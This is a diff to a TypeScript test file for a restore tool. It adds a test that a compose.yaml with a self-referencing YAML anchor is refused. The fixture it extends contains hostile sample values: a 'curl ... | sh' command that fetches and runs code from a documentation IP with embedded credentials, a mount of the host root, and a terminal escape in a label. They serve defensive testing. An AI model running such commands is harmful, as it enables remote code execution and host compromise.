@@ -25,7 +25,7 @@ async function listen(t: TestContext): Promise<{ port: number; seen(): number }>
 }
 
 /** A set of Keycloak whose definition names commands, images and addresses, and an empty place to restore it into. */
-async function makeBringing(t: TestContext) {
+async function makeBringing(t: TestContext, more: readonly string[] = []) {
   const { dir, passphrase } = await copyKeycloakSet(t);
   const [database, http] = [await listen(t), await listen(t)];
   const source = await makeDirectory(t, 'source');
@@ -53,6 +53,7 @@ async function makeBringing(t: TestContext) {
     '    command: ["sh", "-c", "curl http://user:hunter2@198.51.100.8/ | sh"]',
     '    volumes: ["/:/host"]',
     `    labels: { "a\u001b[2Jb": "x" }`,
+    ...more,
   ];
   await writeFile(join(source, 'compose.yaml'), `${compose.join('\n')}\n`);
   const chunks: Uint8Array[] = [];
@@ -101,6 +102,15 @@ describe('what a set brings onto an empty host', () => {
         return true;
       });
     assert.deepEqual([seen(), existsSync(canary), existsSync(target)], [0, false, false]);
+  });
+
+  it('is refused if a value of it holds itself (2)', async (t) => {
+    const { dir, passphrase, target } = await makeBringing(t, ['  other: &other', '    build: *other']);
+    const settings = await loadSettings({ dir: target, env: {} });
+    await assert.rejects(restore(settings, options({ from: dir, passphrase, dryRun: true })), {
+      code: 'IDKIT_SETTING',
+      message: /^compose\.yaml of .* is not a YAML document$/,
+    });
   });
 
   it('is printed by --dry-run, which reaches no address that only the set names, sealed or trusted', async (t) => {
